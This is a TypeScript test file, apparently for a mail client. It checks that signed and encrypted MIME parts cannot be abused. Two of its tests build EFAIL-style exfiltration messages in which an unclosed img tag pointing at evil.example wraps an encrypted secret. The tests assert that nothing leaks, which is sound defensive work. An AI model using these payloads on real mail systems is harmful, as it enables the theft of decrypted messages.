import { encrypt, envelope, sign } from "../tools/practice-messages.ts";
import { requestsOf } from "../pages/requests.ts";
import { expect, test } from "../pages/story.ts";

const GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
const html = (markup: string): string => `Content-Type: text/html; charset=utf-8\r\n\r\n${markup}\r\n`;
const mixed = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="outer"\r\n\r\n'),
    ...parts.flatMap((part) => [Buffer.from("--outer\r\n"), Buffer.from(part), Buffer.from("\r\n")]),
    Buffer.from("--outer--\r\n"),
  ]);

test("a cid: link reaches no part of a signed part beside it (attack 14)", async ({ alice, practice, file }) => {
  const picture = `Content-Type: image/gif\r\nContent-ID: <seal@practice.example>\r\nContent-Transfer-Encoding: base64\r\n\r\n${GIF}\r\n`;
  const message = Buffer.concat([
    Buffer.from(envelope(practice.bob, practice.alice, "Pulled in")),
    mixed(
      html('<p>Pay at once</p><img src="cid:seal@practice.example" alt="pulled in">'),
      sign(practice.bob, file("seal.mime", picture)),
    ),
  ]);
  const card = await alice.openMessage(file("pulled.eml", message));
  await expect(card.text.getByText("Pay at once")).toBeVisible();
  await expect(card.text.getByText("pulled in")).toBeVisible();
  await expect(card.text.locator("img")).toHaveCount(0);
  await expect(card.banner).not.toHaveClass(/tone-positive/);
  await expect(card.headline).not.toContainText("Signed by");
});

test("an encrypted part between open HTML goes nowhere (attack 23)", async ({ alice, practice, file }) => {
  const requests = requestsOf(alice.page);
  const secret = file("secret.mime", "Content-Type: text/plain\r\n\r\nThe gate code is 4711\r\n");
  const message = Buffer.concat([
    Buffer.from(envelope(practice.bob, practice.alice, "Direct exfiltration")),
    mixed(html('Look<img src="https://evil.example/?'), encrypt(secret, practice.alice), html('">after')),
  ]);
  const card = await alice.openMessage(file("exfiltrate.eml", message));
  await expect(card.root.locator("[data-note=c17]")).toBeVisible();
  const frames = card.root.locator("iframe.body");
  await expect(frames).toHaveCount(2);
  for (const frame of await frames.all()) {
    await expect(frame.contentFrame().locator("body")).not.toContainText("4711");
  }
  expect(await card.root.innerText()).not.toContain("4711");
  expect(requests).toEqual([]);
});

test("decrypted content that does not begin as mail does is words and loads nothing (attack 24)", async ({
  alice,
  practice,
  file,
}) => {
  const requests = requestsOf(alice.page);
  const gadget = file("gadget.mime", '\u0001\u0002garbage<img src="https://evil.example/?x">The gate code is 4711');
  const message = Buffer.concat([
    Buffer.from(envelope(practice.bob, practice.alice, "Gadget")),
    encrypt(gadget, practice.alice),
  ]);
  const card = await alice.openMessage(file("gadget.eml", message));
  await expect(card.banner).toHaveAttribute("data-banner", "b10");
  await expect(card.root.locator("iframe.body").contentFrame().locator("img, a, [style]")).toHaveCount(0);
  expect(requests).toEqual([]);
});
